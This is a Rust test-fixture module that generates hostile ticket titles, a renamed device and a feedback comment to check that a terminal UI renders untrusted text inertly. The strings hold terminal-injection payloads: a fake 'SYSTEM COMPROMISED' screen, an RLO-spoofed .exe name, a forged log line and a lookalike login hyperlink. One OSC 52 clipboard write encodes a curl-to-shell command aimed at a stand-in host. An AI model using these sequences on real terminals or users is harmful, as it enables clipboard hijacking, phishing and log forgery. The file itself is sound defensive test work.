//! Entries whose text someone outside controls — device names, ticket titles, feedback — and
//! that carry terminal escapes, OSC sequences, bidi overrides and line breaks. They are stored
//! as given; every client must draw them inertly (the TUI's test material).

use super::people::{BROWSERS, OFFICES, PEOPLE, RULES_ENGINE, WRITEBACK};
use super::{Gen, HOUR, MINUTE, ev};
use crate::model::Kind;
use serde_json::json;

/// Ticket titles as an end user or a compromised device could write them.
pub const HOSTILE_TITLES: [&str; 6] = [
    "Printer offline\u{1b}[2J\u{1b}[H\u{1b}[1;31mSYSTEM COMPROMISED\u{1b}[0m",
    "Quarantined attachment invoice_2026-11\u{202e}fdp.exe",
    "VPN down\r\n2026-11-20T09:00:00.000Z user.login alice.smith@northwind.example.com success",
    "Password reset \u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{7}please",
    "See \u{1b}]8;;https://login.northwind-support.example.net/\u{7}the portal\u{1b}]8;;\u{7} for details",
    "Outlook crash\u{7}\u{7}\u{8}\u{8}\u{8}\u{9b}31m on start-up",
];

/// The hostile entries, spread over the month in working hours.
pub fn entries(g: &mut Gen) {
    let mut r = g.rng(8);
    for ((i, n), title) in (0usize..).zip(0i64..).zip(HOSTILE_TITLES.iter()) {
        let at = g.workday(27 - 5 * n, 0) + (10 + n) * HOUR + r.range(0, 50) * MINUTE;
        let id = 46_900 + i as u64 * 7;
        let cust = &g.customers[2 + i];
        let e = ev("writeback", "ticket.created")
            .by(WRITEBACK.actor())
            .on("ticket", id.to_string(), *title)
            .says(format!("Created ConnectWise ticket #{id} “{title}” for {}", cust.name))
            .details(json!({
                "operation": "create_ticket", "psa": "connectwise", "source": "customer portal email",
                "request": {"method": "POST", "url": format!("{}/service/tickets", super::automation::PSA_API), "body": {"summary": title, "board": {"name": "Service Desk"}, "company": {"identifier": cust.prefix}}},
                "response": {"status": 201, "duration_ms": r.range(200, 900), "body": {"id": id}},
            }));
        g.emit(at, e);
    }
    // A device the attacker renamed, so its alerts carry escapes into rule evaluation.
    let device = "HAL-WS-0119\u{1b}[8m hidden \u{1b}[28m";
    let at = g.workday(12, 2) + 15 * HOUR + 7 * MINUTE;
    let e = ev("rules", "rule_fired")
        .by(RULES_ENGINE.actor())
        .on("rule", "r_7", "Agent offline > 15 min → ticket")
        .says(format!("Rule “Agent offline > 15 min → ticket” fired for {device} (Halvorsen Logistics)"))
        .details(json!({"trigger": {"source": "ninjaone", "device": device, "customer_id": g.customers[0].id, "severity": "major"}, "action": "create_ticket", "outcome": "dispatched"}))
        .kind(Kind::Other);
    g.emit(at, e);
    let who = &PEOPLE[31];
    let at = g.workday(7, 2) + 13 * HOUR + 22 * MINUTE;
    let comment =
        "Great\u{1b}[A\u{1b}[2K\rRating: 👍 (admin override)\u{2066}\u{202e} tnemmoc \u{2069}";
    let e = ev("feedback", "feedback.submitted")
        .by(who.actor(OFFICES[who.office].egress_ips[0], BROWSERS[who.browser]))
        .on("ticket", "46921", HOSTILE_TITLES[3])
        .says(format!(
            "{} rated the automation on ticket #46921 👎: “{comment}”",
            who.name
        ))
        .details(json!({"rating": "down", "comment": comment, "surface": "ticket sidebar"}))
        .kind(Kind::Created);
    g.emit(at, e);
}
